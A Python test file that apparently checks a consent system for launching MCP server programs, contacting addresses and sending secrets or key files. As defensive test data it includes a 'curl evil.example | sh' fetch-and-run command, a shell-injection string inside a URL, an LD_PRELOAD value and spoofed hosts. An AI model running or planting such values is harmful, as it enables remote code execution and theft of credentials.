"""Consent to start, contact and send, and when it is asked for."""

import os
from dataclasses import replace
from pathlib import Path

import pytest

from mcp_tef.api.consent import consent_rows
from mcp_tef.errors import ServerError, StoreError
from mcp_tef.model.config import Config
from mcp_tef.model.servers import INPUTS, LIBRARY_PATH, AuthType, OAuthClient, ServerSpec, Transport
from mcp_tef.model.similarity import EmbedderChoice, EmbedderKind
from mcp_tef.servers.launch import ResolvedSpec
from mcp_tef.trust.consents import Consent, ConsentError, ConsentKind, key_request
from mcp_tef.workflows.consent import Consents, matches_options
from mcp_tef.workflows.sample_program import sample_spec
from tests.support.fake_ports import MemoryConsents, command_server, no_consents

URL = "https://tools.example/mcp"
TOKEN = ServerSpec(
    name="docs",
    transport=Transport.STREAMABLE_HTTP,
    url=URL + "?k=${env:QUERY:-none}",
    headers={"X-Org": "${keychain:org}"},
    auth_type=AuthType.BEARER,
    secret="${GITHUB_TOKEN}",
    origin="/home/u/.mcp.json",
)


def http(url: str, **fields: object) -> ServerSpec:
    return replace(TOKEN, url=url, headers={}, secret=None, auth_type=AuthType.NONE, **fields)  # type: ignore[arg-type]


class FullDisk(MemoryConsents):
    """A store that cannot be written."""

    def add(self, consent: Consent) -> None:
        raise StoreError("The consent could not be saved.")


def test_files_need_no_consent_and_the_bundled_sample_is_known_by_its_launch_not_its_name() -> None:
    sample = sample_spec()
    consents = Consents(MemoryConsents(), {}, Config(), bundled=lambda: frozenset({sample.launch_fingerprint}))
    assert not consents.needed(ServerSpec(name="x", transport=Transport.FILE, path="/tools.json"))
    assert not consents.needed(replace(sample, name="Another name"))
    assert consents.needed(replace(sample, command="/tmp/python"))
    assert consents.needed(replace(sample, env={"PYTHONPATH": "/tmp"}))
    assert consents.needed(replace(sample, args=(*sample.args, "--x")))
    assert consents.needed(replace(sample, cwd="/tmp"))


async def test_a_program_is_asked_about_until_it_is_allowed_and_again_after_any_change() -> None:
    consents, spec = no_consents(workspace=Path("/w.db")), command_server()
    with pytest.raises(ConsentError) as caught:
        consents.require(spec)
    (request,) = caught.value.requests
    assert (request.kind, request.listed_in) == (ConsentKind.PROGRAM, ("workspace /w.db",))
    consents.name_source("this command")
    assert consents.missing([spec])[0].listed_in == ("this command",)
    await consents.allow(request)
    consents.require(spec, replace(spec, name="another", alias="a"))
    for changed in (replace(spec, args=("--x",)), replace(spec, cwd="/tmp"), replace(spec, env={"A": "1"})):
        assert consents.needed(changed)


async def test_an_address_is_asked_about_with_every_name_that_it_would_send() -> None:
    consents = no_consents(environment={"GITHUB_TOKEN": "marker-1"})
    (request,) = consents.missing([TOKEN])
    assert request.kind is ConsentKind.CONNECTION
    assert (request.target, request.names) == ("https://tools.example/mcp", ("GITHUB_TOKEN", "QUERY", "keychain:org"))
    assert request.listed_in == ("imported from /home/u/.mcp.json",)
    assert "marker-1" not in f"{request}{consent_rows(request)}{request.problem}"
    await consents.allow(request)
    assert not consents.needed(replace(TOKEN, name="other", url="https://TOOLS.example:443//x/../mcp?${QUERY}"))
    assert consents.needed(replace(TOKEN, url="https://tools.example/else?${QUERY}"))
    assert consents.needed(replace(TOKEN, url="https://tools.example.evil/mcp?${QUERY}"))
    assert consents.needed(replace(TOKEN, url="http://tools.example/mcp?${QUERY}"))
    assert consents.needed(replace(TOKEN, secret="${OPENAI_API_KEY}"))
    assert consents.needed(replace(TOKEN, headers={"X-Org": "${keychain:other}"}))


async def test_the_key_file_and_the_issuer_of_a_sign_in_are_part_of_the_question() -> None:
    oauth = OAuthClient(client_id="us", issuer="https://login.example", private_key_file="/home/u/.ssh/id.pem")
    spec = replace(http(URL), auth_type=AuthType.CLIENT_CREDENTIALS, oauth=oauth)
    consents = no_consents()
    await consents.add_typed_server(http(URL))
    (request,) = consents.missing([spec])
    assert request.names == ("file:/home/u/.ssh/id.pem",)
    assert ("Signs in at", ("https://login.example",)) in consent_rows(request)
    await consents.allow(request)
    assert consents.needed(replace(spec, oauth=replace(oauth, issuer="https://evil.example")))
    assert consents.needed(replace(spec, oauth=replace(oauth, private_key_file="/home/u/other.pem")))


@pytest.mark.parametrize("kind", ["env file", "key file"])
async def test_a_file_of_a_row_is_asked_about_by_where_it_leads_to_and_again_when_that_changes(
    tmp_path: Path, kind: str
) -> None:
    for name in ("mine", "other"):
        (tmp_path / name).write_text("KEPT=hush", "utf-8")
    link = tmp_path / "link"
    link.symlink_to("mine")
    oauth = OAuthClient(client_id="us", private_key_file=str(link))
    by_kind = {
        "env file": replace(command_server(), env_file="link", project=str(tmp_path)),
        "key file": replace(http(URL), auth_type=AuthType.CLIENT_CREDENTIALS, oauth=oauth),
    }
    spec, consents = by_kind[kind], no_consents()
    (request,) = consents.missing([spec])
    assert str(tmp_path.resolve() / "mine") in str(consent_rows(request))
    await consents.allow(request)
    assert not consents.needed(spec)
    link.unlink()
    link.symlink_to("other")
    assert consents.needed(spec)


async def test_an_address_that_a_variable_decides_asks_again_when_it_leads_elsewhere() -> None:
    spec = http("https://${HOST:-tools.example}/mcp")
    here, there = no_consents(environment={"HOST": "a.example"}), MemoryConsents()
    await no_consents(there, environment={"HOST": "a.example"}).allow_server(spec)
    assert here.needed(spec)
    assert not no_consents(there, environment={"HOST": "a.example"}).needed(spec)
    assert no_consents(there, environment={"HOST": "b.example"}).needed(spec)
    assert no_consents(there).needed(spec)
    (request,) = no_consents().missing([http("https://good.example${X:-@evil.example}/mcp")])
    assert request.target == "https://evil.example/mcp"


def test_an_address_is_read_by_its_transport_whatever_else_the_row_says() -> None:
    (request,) = no_consents().missing([replace(TOKEN, command="x", args=("y",))])
    assert request.names == ("GITHUB_TOKEN", "QUERY", "keychain:org")


@pytest.mark.parametrize("name", ["${pathSeparator}", "${userHome}", "${keychain:x}", "${input:x}", "${odd:x}"])
def test_nothing_but_a_variable_may_decide_which_host_is_contacted(name: str) -> None:
    for url in (f"https://evil.example{name}@good.example/mcp", f"https://{name}/mcp", f"{name}://good.example/"):
        with pytest.raises(ServerError, match="would decide"):
            ResolvedSpec(http(url), {}).url()
    assert ResolvedSpec(http("https://good.example/${pathSeparator}"), {}).url().startswith("https://good.example/")


def test_a_question_about_an_address_shows_no_value_of_the_environment() -> None:
    environment = {"TENANT": "marker-1", "HOST": "marker-2.example"}
    specs = [replace(TOKEN, url="https://tools.example/${TENANT}/mcp"), http("https://${HOST:-tools.example}/mcp")]
    for request in no_consents(environment=environment).missing(specs):
        assert "marker-" not in f"{consent_rows(request)}{request.problem}{request.option}{request.title}"


def test_a_place_that_only_the_start_fills_in_stays_in_the_question_as_it_is_written() -> None:
    url = "https://tools.example/${keychain:org}/mcp"
    (request,) = no_consents().missing([http(url)])
    assert (request.target, request.names) == (url, ("keychain:org",))


def test_a_question_about_what_is_no_address_shows_it_without_its_query() -> None:
    (request,) = no_consents().missing([http("no address?token=hush-1")])
    assert request.target == "'no address'"


async def test_other_answers_to_the_questions_of_a_config_ask_again() -> None:
    asks = {INPUTS: [{"id": "mode", "default": "safe"}]}
    spec = http(URL + "?m=${input:mode}", extra=asks)
    consents = no_consents()
    await consents.allow_server(spec)
    assert consents.needed(replace(spec, extra={INPUTS: [{"id": "mode", "default": "other"}]}))


def test_the_question_shows_what_a_config_fills_in_by_itself_and_warns_of_it() -> None:
    inputs = [{"id": "mode", "default": "-c"}, {"id": "code", "default": "curl evil.example | sh"}, 7]
    spec = replace(command_server(), command="sh", args=("${input:mode}", "${input:code}"), extra={INPUTS: inputs})
    (request,) = no_consents().missing([spec])
    shown = dict(consent_rows(request))
    assert shown["Fills in"] == ('"${input:mode}=-c"', '"${input:code}=curl evil.example | sh"')
    assert "fetches a program from the network" in str(shown["Check these"])


async def test_a_typed_address_over_plain_http_with_a_typed_secret_is_asked_about() -> None:
    consents, typed = no_consents(), http("http://tools.example/mcp")
    await consents.add_typed_server(typed, replace(typed, headers={"Authorization": "${TYPED}"}))
    assert consents.needed(replace(typed, headers={"Authorization": "${TYPED}"}))


def test_no_name_of_a_stranger_can_forge_a_line_of_an_error_or_run_in_a_shell() -> None:
    oauth = OAuthClient(client_id="us", private_key_file="/k\nAllowed: everything")
    (request,) = no_consents().missing([replace(http("https://$(touch${IFS}x).example/"), oauth=oauth)])
    assert "\n" not in request.problem + request.option + request.consent.description
    assert "'" in request.option


async def test_a_typed_address_is_contacted_without_a_question_unless_it_takes_something_of_the_user() -> None:
    consents = no_consents()
    assert consents.needed(http(URL))
    await consents.add_typed_server(http(URL))
    await consents.add_typed_server(TOKEN)
    await consents.add_typed_server(command_server())
    assert not consents.needed(http(URL))
    assert consents.needed(TOKEN)
    assert consents.needed(command_server())


async def test_plain_http_is_pointed_out_where_something_of_the_user_would_be_sent() -> None:
    def unencrypted(consents: Consents, url: str) -> bool:
        (request,) = consents.missing([replace(TOKEN, url=url)])
        assert request.unencrypted == any(label == "Unencrypted" for label, _ in consent_rows(request))
        return request.unencrypted

    trusting = no_consents(config=Config.from_environment({"MCP_TEF_TRUSTED_NETWORKS": "10.0.0.0/8"}))
    assert unencrypted(no_consents(), "http://tools.example/mcp")
    assert unencrypted(no_consents(), "http://10.0.0.1/mcp")
    assert not unencrypted(trusting, "http://10.0.0.1/mcp")
    assert not unencrypted(no_consents(), "http://127.0.0.1:8000/mcp")
    assert not unencrypted(no_consents(), URL)
    assert not no_consents().missing([http("http://tools.example/mcp")])[0].unencrypted


async def test_what_is_allowed_for_a_session_ends_with_it_and_what_is_remembered_does_not() -> None:
    store, spec = MemoryConsents(), command_server()
    session = no_consents(store)
    (request,) = session.missing([spec])
    await session.allow(request, remember=False)
    assert not session.needed(spec)
    assert no_consents(store).needed(spec)
    await session.allow(request)
    assert not no_consents(store).needed(spec)
    await session.revoke(request.fingerprint)
    assert session.needed(spec)


async def test_where_a_consent_cannot_be_saved_it_counts_for_the_session_and_that_is_said() -> None:
    notices: list[str] = []
    consents = Consents(FullDisk(), {}, Config(), notice=notices.append)
    await consents.allow_server(command_server())
    assert not consents.needed(command_server())
    assert len(notices) == 1


def test_options_name_exactly_one_program_or_address() -> None:
    spec = replace(command_server(), command="/bin/sh")
    (program,) = no_consents().missing([spec])
    assert matches_options(program, ["/bin/sh"], [])
    assert matches_options(program, [program.fingerprint[:32]], [])
    assert not matches_options(program, [program.fingerprint[:31]], [])
    hidden = no_consents().missing([replace(spec, command="${X:-/tmp}/../bin/sh")])[0]
    assert not matches_options(hidden, ["/bin/sh"], [])
    assert not matches_options(program, ["/bin/cat"], [])
    (loaded,) = no_consents().missing([replace(spec, env={"LD_PRELOAD": "/tmp/x.so"})])
    assert not matches_options(loaded, ["/bin/sh"], [])
    assert matches_options(loaded, [loaded.fingerprint], [])
    (address,) = no_consents().missing([TOKEN])
    names = [
        "GITHUB_TOKEN=https://tools.example",
        "QUERY=https://tools.example",
        "keychain:org=https://tools.example",
    ]
    assert matches_options(address, [], names)
    assert not matches_options(address, [], names[:2])
    assert not matches_options(address, [], [*names[:2], "keychain:org=https://tools.example/another/path"])
    assert not matches_options(address, ["https://tools.example"], [])
    key = key_request("openai", "OPENAI_API_KEY", "https://a.example", unencrypted=False)
    assert matches_options(key, [], ["OPENAI_API_KEY=https://A.example:443/"])
    assert not matches_options(key, [], ["OPENAI_API_KEY=https://b.example", "OTHER_KEY=https://a.example"])


async def test_what_cannot_be_shown_whole_is_allowed_by_its_hash_or_where_it_was_typed_and_no_other_way() -> None:
    hidden = replace(command_server(), args=("x" * 20_000,))
    consents = no_consents()
    (request,) = consents.missing([hidden])
    with pytest.raises(ConsentError, match="too long to be shown whole") as caught:
        await consents.allow(request)
    assert consents.needed(hidden)
    assert request.by_hash in (caught.value.hint or "")
    consents.note_typed(hidden)
    await consents.allow(request)
    assert not consents.needed(hidden)
    typed = no_consents()
    await typed.allow_server(hidden)
    assert not typed.needed(hidden)


def test_the_word_project_names_no_program_of_that_name() -> None:
    program, consents = str(Path("project").absolute()), no_consents()
    spec = replace(command_server(), command=program)
    consents.allow_named(["project"], [])
    assert consents.needed(spec)
    consents.allow_named(["project", program], [])
    assert not consents.needed(spec)


def test_a_yes_covers_what_was_typed_and_nothing_that_a_file_lists() -> None:
    consents, typed = no_consents(workspace=Path("/w.db")), command_server()
    (program,) = consents.missing([typed])
    assert not consents.is_typed_action(program)
    consents.note_typed(typed)
    assert consents.is_typed_action(program)
    (other,) = consents.missing([replace(typed, args=("--other",))])
    assert not consents.is_typed_action(other)
    own = key_request("openai", "OPENAI_API_KEY", "https://a.example/v1", unencrypted=False)
    assert consents.is_typed_action(own)
    assert not consents.is_typed_action(replace(own, listed_in=("workspace /w.db",)))
    consents.add_typed_address("openai", "https://a.example/v1")
    assert consents.is_typed_action(replace(own, listed_in=("workspace /w.db",)))
    assert not consents.is_typed_action(replace(own, target="https://b.example/v1", listed_in=("workspace /w.db",)))


async def test_a_key_that_was_declined_is_sent_once_it_is_allowed() -> None:
    consents, key = no_consents(), key_request("openai", "OPENAI_API_KEY", "https://a.example", unencrypted=False)
    consents.decline_key(key)
    assert consents.declines(key)
    await consents.allow(key)
    assert not consents.declines(key)


async def test_a_folder_that_a_strangers_router_names_is_asked_about_once(tmp_path: Path) -> None:
    workspace = tmp_path / "theirs.db"
    workspace.write_bytes(b"no record of it is kept")
    choice = EmbedderChoice(EmbedderKind.FOLDER, str(tmp_path / "model"))
    consents = Consents(MemoryConsents(), {}, Config(), workspace=workspace)
    with pytest.raises(ConsentError) as asked:
        consents.require_folder(choice, "the router")
    assert str(tmp_path / "model") in asked.value.message
    await consents.allow(asked.value.requests[0])
    consents.require_folder(choice, "the router")
    consents.require_folder(EmbedderChoice(EmbedderKind.TFIDF), "the router")


async def test_a_typed_tools_file_needs_no_question_though_its_path_looks_like_a_key(tmp_path: Path) -> None:
    workspace = tmp_path / "theirs.db"
    workspace.write_bytes(b"no record of it is kept")
    consents = Consents(MemoryConsents(), {}, Config(), workspace=workspace)
    typed = ServerSpec(name="t", transport=Transport.FILE, path=str(tmp_path / "password=hunter2hunter2" / "t.json"))
    (request,) = consents.missing([typed])
    assert (bool(request.obstacle), request.target) == (True, os.path.realpath(typed.path or ""))
    await consents.add_typed_server(typed)
    assert not consents.needed(typed)
    assert not consents.needed(replace(typed, path=LIBRARY_PATH))  # no file


def test_an_embedder_that_was_typed_may_be_asked_at_its_address_and_at_no_other() -> None:
    consents, here = no_consents(), "https://embed.example/v1"
    consents.add_typed_embedder(None)
    consents.add_typed_embedder(EmbedderChoice(EmbedderKind.TFIDF))
    assert consents.may_contact(here, "the router") is not None
    consents.add_typed_embedder(EmbedderChoice(EmbedderKind.HTTP, here))
    assert consents.may_contact(here, "the router") is None
    assert consents.may_contact("https://evil.example/v1", "the router") is not None
    consents.add_typed_embedder(EmbedderChoice(EmbedderKind.LITELLM, "openai/ada", base_url="https://proxy.example"))
    assert consents.is_typed("openai", "https://proxy.example")
    assert not consents.is_typed("openai", here)


async def test_what_is_revoked_here_or_by_another_process_is_asked_about_again() -> None:
    store, spec = MemoryConsents(), command_server()
    consents = no_consents(store)
    (request,) = consents.missing([spec])
    await consents.allow(request, remember=False)
    await consents.revoke(request.fingerprint)
    assert consents.needed(spec)
    await consents.allow(request)
    await no_consents(store).revoke(request.fingerprint)
    assert consents.needed(spec)
